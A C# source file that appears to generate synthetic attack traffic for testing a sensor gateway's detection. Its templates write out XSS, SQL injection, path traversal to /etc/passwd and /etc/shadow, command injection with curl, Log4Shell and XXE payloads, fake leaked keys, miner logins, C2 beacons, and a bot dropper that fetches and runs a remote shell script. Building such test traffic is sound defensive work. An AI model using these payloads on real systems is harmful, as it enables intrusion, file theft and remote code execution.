namespace SensorGateway.Traffic.Templates;

/// <summary>Attacks in requests, and what malware sends. Addresses and hosts are the ones kept for documentation.</summary>
internal static class AttackTemplates
{
    public static string XssScriptTag(TemplateDice dice) => HttpTemplates.Request(
        dice,
        "/search?q=" + dice.Pick("<script>alert(1)</script>", "%3Cscript%3Efetch('//x.example')%3C/script%3E",
            "\"><ScRiPt src=//x.example/a.js>"),
        dice.Agent());

    public static string XssEventHandler(TemplateDice dice) => HttpTemplates.Request(
        dice,
        "/device?name=" + dice.Pick("<img src=x onerror=alert(1)>", "%3Csvg%20onload%3Dalert%28document.cookie%29%3E",
            "<body onload = 'fetch(`//x.example`)'>"),
        dice.Agent());

    public static string SqlUnion(TemplateDice dice) => HttpTemplates.Request(
        dice,
        $"/item?id={Live.Number(3)}" + dice.Pick("+UNION+ALL+SELECT+1,user,3--",
            "'%20union%20select%20null,version()--", "/**/UnIoN/**/SeLeCt/**/1,2"),
        dice.Agent());

    public static string SqlTautology(TemplateDice dice) => HttpTemplates.Request(
        dice,
        "/login",
        dice.Agent(),
        $"user={dice.User()}" + dice.Pick("' or 1=1-- ", "%27+OR+%271%27%3D%271", "\" OR true = true#")
            + $"&pin={Live.Number(4)}",
        "application/x-www-form-urlencoded");

    public static string PathTraversal(TemplateDice dice) => HttpTemplates.Request(
        dice,
        "/download?file=" + dice.Pick("../../../../etc/passwd", "..%2f..%2f..%2f..%2fetc%2fshadow",
            "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd&x=1"),
        dice.Agent());

    public static string CommandInjection(TemplateDice dice) => HttpTemplates.Request(
        dice,
        $"/ping?host={dice.InnerAddress()}" + dice.Pick(";cat+/etc/hostname", "%7Cwhoami",
            "%3Bcurl%20http://x.example/i", "`uname -a`"),
        dice.Agent());

    public static string Log4Shell(TemplateDice dice) => HttpTemplates.Request(
        dice, "/", $"${{jndi:{dice.Pick("ldap", "rmi", "dns", "LDAPS")}://{dice.OuterAddress()}:1389/{Live.Many(Live.Base62, 6)}}}");

    public static string TemplateInjection(TemplateDice dice) => HttpTemplates.Request(
        dice, "/hello?name=" + dice.Pick($"{{{{{Live.Number(2)}*{Live.Number(2)}}}}}",
            $"${{{Live.Number(4)}*{Live.Number(4)}}}", "%7B%7B7*'7'%7D%7D"), dice.Agent());

    public static string XmlExternalEntity(TemplateDice dice) => HttpTemplates.Request(
        dice,
        "/import",
        dice.Agent(),
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY " + dice.Pick("xxe SYSTEM \"file:///etc/hostname\"",
            "% d PUBLIC 'x' 'http://x.example/d.dtd'")
        + $">]><reading id=\"{Live.Number(5)}\">&xxe;</reading>",
        "application/xml");

    public static string LeakedAccessKey(TemplateDice dice) =>
        Json.OneLine($$"""
            {"ts":"{{TemplateDice.IsoTime()}}","sensor":"cam-{{dice.Between(1, 99):D4}}","type":"config","msg":"upload target changed{{Live.Marker}}",
            "bucket":"clips-{{Live.Many(Live.Hex, 6)}}","access_key_id":"{{dice.Pick("AKIA", "ASIA")}}{{Live.Many(Live.Base32, 16)}}"}
            """);

    public static string LeakedPrivateKey(TemplateDice dice) => HttpTemplates.Request(
        dice,
        "/backup",
        dice.Agent(),
        $"-----BEGIN {dice.Pick("RSA ", "EC ", "OPENSSH ", string.Empty)}PRIVATE KEY-----\n"
            + Live.Many(Live.Base62, 64) + "\n" + Live.Many(Live.Base62, 64) + "\n",
        "application/x-pem-file");

    public static string MinerLogin(TemplateDice dice) => dice.Between(0, 1) == 0
        ? Json.OneLine($$"""
            {"id":{{Live.FirstDigit}},"jsonrpc":"2.0","method":"login","params":{"login":"4{{Live.Many(Live.Base62, 94)}}",
            "pass":"{{dice.Host()}}{{Live.Marker}}","agent":"XMRig/6.21.{{Live.Digit}} (Linux x86_64)","algo":["rx/0","cn/r"]} }
            """)
        : $$"""{"id":{{Live.FirstDigit}},"method":"mining.{{dice.Pick("subscribe", "authorize")}}","params":["{{Live.Many(Live.Base62, 34)}}.{{dice.Host()}}{{Live.Marker}}","x"]}""";

    public static string ScannerAgent(TemplateDice dice) => HttpTemplates.Request(
        dice,
        $"/{dice.Pick("login", "cgi-bin/", "server-status", "robots.txt")}?{Live.Many(Live.Hex, 4)}",
        dice.Pick("sqlmap/1.8.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0)", "Mozilla/5.0 zgrab/0.x",
            "Nuclei - Open-source project"));

    public static string BeaconCookie(TemplateDice dice) => HttpTemplates.Request(
        dice,
        dice.Pick("/pixel.gif", "/__utm.gif", "/ptj", "/visit.js"),
        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
        header: $"Cookie: {Live.Many(Live.Base62, 171)}=");

    public static string BeaconCheckIn(TemplateDice dice) =>
        Json.OneLine($$"""
            {"{{dice.Pick("implant_id", "bot_id", "agent_id")}}":"{{Live.Many(Live.Hex, 16)}}","host":"{{dice.Host()}}{{Live.Marker}}","user":"{{dice.User()}}",
            "sleep":{{Live.Number(2)}},"jitter":{{Live.Number(2)}},"results":"{{Live.Many(Live.Base62, 60)}}"}
            """);

    public static string BotDropper(TemplateDice dice) =>
        $"enable\r\nsystem\r\nshell\r\ncd /tmp || cd /var/run{Live.Marker}; {dice.Pick("wget", "curl -O", "tftp -g -r")} http://{dice.OuterAddress()}/{Live.Many(Live.Hex, 6)}.sh"
        + $"; {dice.Pick("chmod 777", "chmod +x")} {Live.Many(Live.Hex, 6)}.sh; ./{Live.Many(Live.Hex, 6)}.sh\r\n";
}
